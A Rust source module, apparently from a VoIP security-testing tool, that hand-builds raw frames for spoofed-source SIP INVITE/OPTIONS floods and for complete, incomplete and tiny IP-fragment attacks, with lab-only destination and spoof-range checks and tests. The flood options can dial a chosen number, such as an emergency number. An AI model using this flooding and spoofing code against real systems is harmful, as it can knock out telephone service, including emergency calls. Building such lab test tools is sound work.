//! Raw-frame attacks: INVITE and OPTIONS floods from spoofed sources, and IP
//! fragments, built by hand and sent in batches (sendmmsg) on an AF_PACKET
//! socket. Only inside the lab: see [`super::check_destination`] and
//! [`super::check_interface`].

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use super::{
    check_destination, check_interface, target_v4, AttackReport, Bounds, Ipv4Net, Refusal,
};
use crate::msgbuf::MsgBuf;
use crate::pacing::Pacer;
use sip::Method;
use sys::{self, PacketSocket};
use wire::build::UdpFrameBuilder;

/// Errors of the raw attacks.
#[derive(Debug, thiserror::Error)]
pub enum RawAttackError {
    /// Refused before sending.
    #[error(transparent)]
    Refused(#[from] Refusal),
    /// The interface, socket or neighbour lookup failed.
    #[error("{0}")]
    Io(String),
}

/// A flood of INVITEs or OPTIONS from spoofed sources.
#[derive(Debug, Clone)]
pub struct FloodConfig {
    /// Interface to send on (in the calling thread's namespace).
    pub iface: String,
    /// Destination (lab ranges, IPv4).
    pub target: SocketAddr,
    /// Spoofed source addresses, used in turn.
    pub spoof: Ipv4Net,
    /// INVITE or OPTIONS.
    pub method: Method<'static>,
    /// Bounds (frames).
    pub bounds: Bounds,
    /// Destination MAC; looked up in the neighbour table when absent.
    pub dst_mac: Option<[u8; 6]>,
    /// The number every request dials (digits, e.g. an emergency number);
    /// `None`: 10,000 numbers in turn from 44200000.
    pub number: Option<String>,
}

impl FloodConfig {
    /// An INVITE flood on `iface` from 198.18.128.0/17, 10,000 frames in at
    /// most 10 seconds, as fast as the box can send.
    pub fn new(iface: &str, target: SocketAddr) -> Self {
        FloodConfig {
            iface: iface.into(),
            target,
            spoof: Ipv4Net::parse("198.18.128.0/17").expect("valid prefix"),
            method: Method::Invite,
            bounds: Bounds {
                pps: 0.0,
                ..Bounds::default()
            },
            dst_mac: None,
            number: None,
        }
    }
}

/// How fragments are sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FragmentMode {
    /// Every fragment: the receiver can reassemble the datagram.
    Complete,
    /// All but the last fragment: reassembly never completes.
    Incomplete,
    /// 8-byte fragments: the most fragments per datagram.
    Tiny,
}

/// IP fragments of SIP datagrams.
#[derive(Debug, Clone)]
pub struct FragmentsConfig {
    /// Interface to send on.
    pub iface: String,
    /// Destination (lab ranges, IPv4).
    pub target: SocketAddr,
    /// Source addresses, used in turn.
    pub spoof: Ipv4Net,
    /// Which fragments are sent.
    pub mode: FragmentMode,
    /// SIP datagram size before fragmentation (bytes of UDP payload).
    pub datagram_size: usize,
    /// Data bytes per fragment (multiple of 8; ignored for `Tiny`).
    pub fragment_size: usize,
    /// Bounds (datagrams; their fragments are sent back to back).
    pub bounds: Bounds,
    /// Destination MAC; looked up when absent.
    pub dst_mac: Option<[u8; 6]>,
}

impl FragmentsConfig {
    /// 3,000-byte INVITEs cut into 1,200-byte fragments from 198.18.200.0/24.
    pub fn new(iface: &str, target: SocketAddr) -> Self {
        FragmentsConfig {
            iface: iface.into(),
            target,
            spoof: Ipv4Net::parse("198.18.200.0/24").expect("valid prefix"),
            mode: FragmentMode::Complete,
            datagram_size: 3000,
            fragment_size: 1200,
            bounds: Bounds {
                count: 1000,
                ..Bounds::default()
            },
            dst_mac: None,
        }
    }
}

/// Parses `aa:bb:cc:dd:ee:ff`.
pub fn parse_mac(s: &str) -> Result<[u8; 6], String> {
    let parts: Vec<&str> = s.split(':').collect();
    if parts.len() != 6 {
        return Err(format!("{s:?}: a MAC address has 6 parts"));
    }
    let mut mac = [0u8; 6];
    for (m, p) in mac.iter_mut().zip(parts) {
        *m = u8::from_str_radix(p, 16).map_err(|_| format!("{s:?}: {p:?} is not hex"))?;
    }
    Ok(mac)
}

/// The MAC address of `ip` on `iface` from the neighbour table of the
/// calling thread's namespace, if known.
fn neighbour(iface: &str, ip: Ipv4Addr) -> Option<[u8; 6]> {
    let table = std::fs::read_to_string("/proc/thread-self/net/arp").ok()?;
    table.lines().skip(1).find_map(|l| {
        let f: Vec<&str> = l.split_whitespace().collect();
        // IP address, HW type, Flags, HW address, Mask, Device.
        (f.len() >= 6 && f[0] == ip.to_string() && f[5] == iface && f[2] != "0x0")
            .then(|| parse_mac(f[3]).ok())
            .flatten()
    })
}

/// The destination MAC: given, zero on loopback, or from the neighbour
/// table (after one ordinary datagram to the discard port to make the
/// kernel resolve it).
fn resolve_mac(
    iface: &str,
    ip: Ipv4Addr,
    given: Option<[u8; 6]>,
) -> Result<[u8; 6], RawAttackError> {
    if let Some(m) = given {
        return Ok(m);
    }
    if iface == "lo" {
        return Ok([0; 6]);
    }
    if let Some(m) = neighbour(iface, ip) {
        return Ok(m);
    }
    if let Ok(s) = std::net::UdpSocket::bind("0.0.0.0:0") {
        let _ = s.send_to(b"", (ip, 9));
    }
    let deadline = Instant::now() + Duration::from_secs(3);
    while Instant::now() < deadline {
        if let Some(m) = neighbour(iface, ip) {
            return Ok(m);
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Err(RawAttackError::Io(format!(
        "no neighbour entry for {ip} on {iface}; give the destination MAC address"
    )))
}

fn flood_payload(
    out: &mut [u8],
    method: Method,
    number: Option<&str>,
    src: SocketAddr,
    dst: SocketAddr,
    k: u64,
    pad_to: usize,
) -> Option<usize> {
    let mut o = MsgBuf::new(out);
    let dial = |o: &mut MsgBuf| match number {
        Some(n) => o.put(n.as_bytes()),
        None => o.put_u64(4420_0000 + k % 10_000),
    };
    o.put(method.as_bytes());
    o.put(b" sip:");
    dial(&mut o);
    o.put(b"@");
    o.put_addr(dst);
    o.put(b" SIP/2.0\r\nVia: SIP/2.0/UDP ");
    o.put_addr(src);
    o.put(b";branch=z9hG4bKf");
    o.put_hex(k);
    o.put(b"\r\nMax-Forwards: 70\r\nFrom: <sip:flood@");
    o.put_addr(src);
    o.put(b">;tag=f");
    o.put_hex(k);
    o.put(b"\r\nTo: <sip:");
    dial(&mut o);
    o.put(b"@");
    o.put_addr(dst);
    o.put(b">\r\nCall-ID: flood-");
    o.put_hex(k);
    o.put(b"\r\nCSeq: 1 ");
    o.put(method.as_bytes());
    o.put(b"\r\n");
    // Padding header so fragment tests get the datagram size they ask for.
    let fixed = o.len() + b"Content-Length: 0\r\n\r\n".len();
    if pad_to > fixed + 12 {
        o.put(b"X-Pad: ");
        for _ in 0..pad_to - fixed - 9 {
            o.put(b"p");
        }
        o.put(b"\r\n");
    }
    o.put(b"Content-Length: 0\r\n\r\n");
    (!o.overflowed()).then(|| o.len())
}

struct RawSender {
    sock: PacketSocket,
    /// Destination and source MAC of every frame.
    macs: ([u8; 6], [u8; 6]),
}

/// The frame of one UDP datagram between `macs` (destination, source) from
/// `src` (spoofed) to `target`, with IPv4 Identification `ip_id` (the
/// frame's number: fragments of one datagram share it).
fn datagram(
    macs: ([u8; 6], [u8; 6]),
    src: SocketAddr,
    target: std::net::SocketAddrV4,
    ip_id: u16,
    payload: &[u8],
) -> UdpFrameBuilder {
    let mut f = UdpFrameBuilder::new(
        src.ip(),
        IpAddr::V4(*target.ip()),
        src.port(),
        target.port(),
        payload,
    );
    f.macs = macs;
    f.ip_id = ip_id;
    f
}

fn prepare(
    iface: &str,
    target: SocketAddr,
    spoof: &Ipv4Net,
    bounds: &Bounds,
    mac: Option<[u8; 6]>,
) -> Result<(RawSender, std::net::SocketAddrV4), RawAttackError> {
    check_destination(target.ip())?;
    let t = target_v4(target)?;
    if !spoof.in_lab() {
        return Err(Refusal::SpoofRange(spoof.to_string()).into());
    }
    check_interface(iface)?;
    bounds.check()?;
    let sock =
        PacketSocket::open(iface).map_err(|e| RawAttackError::Io(format!("{iface}: {e}")))?;
    let src_mac = if iface == "lo" {
        [0; 6]
    } else {
        sys::interface_mac(iface).map_err(|e| RawAttackError::Io(e.to_string()))?
    };
    let dst_mac = resolve_mac(iface, *t.ip(), mac)?;
    Ok((
        RawSender {
            sock,
            macs: (dst_mac, src_mac),
        },
        t,
    ))
}

/// Sends `frames` completely, retrying a full queue briefly; returns (sent,
/// failed).
fn send_all(sock: &PacketSocket, frames: &[&[u8]]) -> (u64, u64) {
    let (mut at, mut spins) = (0, 0);
    while at < frames.len() {
        match sock.send_batch(&frames[at..]) {
            Ok(0) if spins < 1000 => {
                spins += 1;
                std::thread::yield_now();
            }
            Ok(0) => return (at as u64, (frames.len() - at) as u64),
            Ok(n) => {
                at += n;
                spins = 0;
            }
            Err(_) => return (at as u64, (frames.len() - at) as u64),
        }
    }
    (at as u64, 0)
}

fn run_paced(
    kind: String,
    target: SocketAddr,
    bounds: Bounds,
    stop: &AtomicBool,
    sender: &RawSender,
    mut build: impl FnMut(u64, &mut Vec<Vec<u8>>),
) -> AttackReport {
    let mut report = AttackReport {
        kind,
        target: target.to_string(),
        ..Default::default()
    };
    let mut pacer = Pacer::new(
        bounds.rate(),
        bounds.duration.as_nanos() as u64,
        bounds.count,
        0,
        1,
    );
    let start = Instant::now();
    let mut frames: Vec<Vec<u8>> = Vec::with_capacity(256);
    while !pacer.finished() {
        if stop.load(Ordering::Relaxed) {
            break;
        }
        let now = start.elapsed().as_nanos() as u64;
        frames.clear();
        let mut items = 0;
        while items < 64 {
            let Some(due) = pacer.poll(now) else { break };
            build(due.index, &mut frames);
            items += 1;
        }
        if frames.is_empty() {
            let wake = pacer.next_due_ns().unwrap_or(now);
            std::thread::sleep(Duration::from_nanos(
                wake.saturating_sub(now).min(10_000_000),
            ));
            continue;
        }
        let refs: Vec<&[u8]> = frames.iter().map(Vec::as_slice).collect();
        let (sent, failed) = send_all(&sender.sock, &refs);
        report.sent += sent;
        report.send_failed += failed;
    }
    report.elapsed_s = start.elapsed().as_secs_f64();
    if report.elapsed_s > 0.0 {
        report.pps = report.sent as f64 / report.elapsed_s;
    }
    report
}

/// Floods the target with INVITEs or OPTIONS, one spoofed source after
/// another, each frame a different call.
pub fn flood(cfg: &FloodConfig, stop: &AtomicBool) -> Result<AttackReport, RawAttackError> {
    let (sender, t) = prepare(&cfg.iface, cfg.target, &cfg.spoof, &cfg.bounds, cfg.dst_mac)?;
    let mut payload = [0u8; 1400];
    let mut report = run_paced(
        format!("flood ({})", String::from_utf8_lossy(cfg.method.as_bytes())),
        cfg.target,
        cfg.bounds,
        stop,
        &sender,
        |k, frames| {
            let src_ip = cfg.spoof.nth(k);
            let src_port = 1024 + (k.wrapping_mul(7919) % 60000) as u16;
            let src = SocketAddr::new(IpAddr::V4(src_ip), src_port);
            let Some(n) = flood_payload(
                &mut payload,
                cfg.method,
                cfg.number.as_deref(),
                src,
                cfg.target,
                k,
                0,
            ) else {
                return;
            };
            frames.push(datagram(sender.macs, src, t, k as u16, &payload[..n]).build());
        },
    );
    report.notes.push(format!(
        "spoofed sources from {} on {}",
        cfg.spoof, cfg.iface
    ));
    Ok(report)
}

/// Sends SIP datagrams cut into IP fragments.
pub fn fragments(cfg: &FragmentsConfig, stop: &AtomicBool) -> Result<AttackReport, RawAttackError> {
    let (sender, t) = prepare(&cfg.iface, cfg.target, &cfg.spoof, &cfg.bounds, cfg.dst_mac)?;
    let size = cfg.datagram_size.clamp(64, 60_000);
    let mut payload = vec![0u8; size + 64];
    let piece = match cfg.mode {
        FragmentMode::Tiny => 8,
        _ => cfg.fragment_size.max(8),
    };
    let mut datagrams = 0u64;
    let mut report = run_paced(
        "fragments".into(),
        cfg.target,
        cfg.bounds,
        stop,
        &sender,
        |k, frames| {
            let src_ip = cfg.spoof.nth(k);
            let src_port = 1024 + (k.wrapping_mul(7919) % 60000) as u16;
            let src = SocketAddr::new(IpAddr::V4(src_ip), src_port);
            let Some(n) =
                flood_payload(&mut payload, Method::Invite, None, src, cfg.target, k, size)
            else {
                return;
            };
            let mut fr =
                datagram(sender.macs, src, t, k as u16, &payload[..n]).ipv4_fragments(piece);
            if cfg.mode == FragmentMode::Incomplete && fr.len() > 1 {
                fr.pop();
            }
            datagrams += 1;
            frames.extend(fr);
        },
    );
    report.notes.push(format!(
        "{datagrams} datagrams of {size} bytes in {}-byte fragments ({:?}), sources from {}",
        piece, cfg.mode, cfg.spoof
    ));
    Ok(report)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn floods_outside_the_lab_are_refused_before_any_socket_opens() {
        let cfg = FloodConfig::new("lo", "192.0.2.1:5060".parse().unwrap());
        let e = flood(&cfg, &AtomicBool::new(false)).unwrap_err();
        assert!(
            matches!(e, RawAttackError::Refused(Refusal::Destination(_))),
            "{e}"
        );
    }

    #[test]
    fn spoofed_sources_outside_the_lab_are_refused() {
        let mut cfg = FloodConfig::new("lo", "127.0.0.1:5060".parse().unwrap());
        cfg.spoof = Ipv4Net::parse("10.0.0.0/8").unwrap();
        let e = flood(&cfg, &AtomicBool::new(false)).unwrap_err();
        assert!(
            matches!(e, RawAttackError::Refused(Refusal::SpoofRange(_))),
            "{e}"
        );
    }

    #[test]
    fn padded_payload_has_the_asked_size() {
        let mut buf = [0u8; 4000];
        let src: SocketAddr = "198.18.200.1:4000".parse().unwrap();
        let dst: SocketAddr = "198.18.0.2:5060".parse().unwrap();
        let n = flood_payload(&mut buf, Method::Invite, None, src, dst, 3, 3000).unwrap();
        assert_eq!(n, 3000);
        assert!(crate::sipmsg::parse(&buf[..n]).is_ok());
    }

    const MACS: ([u8; 6], [u8; 6]) = ([2, 0, 0, 0, 0, 2], [2, 0, 0, 0, 0, 1]);

    /// A flood INVITE from a spoofed source, as `flood` frames it.
    fn spoofed_invite(size: usize) -> (SocketAddr, std::net::SocketAddrV4, UdpFrameBuilder) {
        let src: SocketAddr = "198.18.200.1:4000".parse().unwrap();
        let dst: std::net::SocketAddrV4 = "198.18.0.2:5060".parse().unwrap();
        let mut buf = [0u8; 4000];
        let n = flood_payload(&mut buf, Method::Invite, None, src, dst.into(), 3, size).unwrap();
        (src, dst, datagram(MACS, src, dst, 3, &buf[..n]))
    }

    #[test]
    fn flood_frames_come_from_the_spoofed_source_with_valid_checksums() {
        let (src, dst, f) = spoofed_invite(0);
        let frame = f.build();
        // Read back by etherparse, an independent parser.
        let p = etherparse::SlicedPacket::from_ethernet(&frame).unwrap();
        let Some(etherparse::LinkSlice::Ethernet2(eth)) = &p.link else {
            panic!("an Ethernet frame")
        };
        assert_eq!((eth.destination(), eth.source()), MACS);
        let Some(etherparse::NetSlice::Ipv4(ip)) = &p.net else {
            panic!("IPv4")
        };
        let h = ip.header().to_header();
        assert_eq!(IpAddr::V4(h.source.into()), src.ip());
        assert_eq!(Ipv4Addr::from(h.destination), *dst.ip());
        assert_eq!((h.identification, h.dont_fragment), (3, true));
        assert_eq!(h.calc_header_checksum(), h.header_checksum);
        let Some(etherparse::TransportSlice::Udp(udp)) = &p.transport else {
            panic!("UDP")
        };
        let u = udp.to_header();
        assert_eq!(
            (u.source_port, u.destination_port),
            (src.port(), dst.port())
        );
        assert_eq!(u.calc_checksum_ipv4(&h, udp.payload()).unwrap(), u.checksum);
        let sip = crate::sipmsg::parse(udp.payload()).unwrap();
        assert_eq!(sip.method(), Some(Method::Invite));
    }

    #[test]
    fn fragments_reassemble_into_the_datagram_with_a_valid_checksum() {
        let (src, dst, f) = spoofed_invite(3000);
        let frames = f.ipv4_fragments(1000);
        assert_eq!(frames.len(), 4);
        let mut pool = etherparse::defrag::IpDefragPool::<(), ()>::new();
        let mut whole = None;
        for frame in &frames {
            let p = etherparse::SlicedPacket::from_ethernet(frame).unwrap();
            assert!(whole.is_none(), "reassembled before the last fragment");
            whole = pool.process_sliced_packet(&p, (), ()).unwrap();
        }
        let whole = whole.expect("the fragments reassemble");
        let (udp, payload) = etherparse::UdpHeader::from_slice(&whole.payload).unwrap();
        assert_eq!((udp.source_port, udp.destination_port), (4000, 5060));
        assert_eq!(payload, &f.payload[..]);
        let IpAddr::V4(src_ip) = src.ip() else {
            unreachable!()
        };
        let sum = udp
            .calc_checksum_ipv4_raw(src_ip.octets(), dst.ip().octets(), payload)
            .unwrap();
        assert_eq!(sum, udp.checksum);
        assert!(crate::sipmsg::parse(payload).is_ok());
    }

    #[test]
    fn mac_addresses_parse() {
        assert_eq!(
            parse_mac("02:00:0a:ff:00:01").unwrap(),
            [2, 0, 10, 255, 0, 1]
        );
        assert!(parse_mac("02:00").is_err());
    }
}
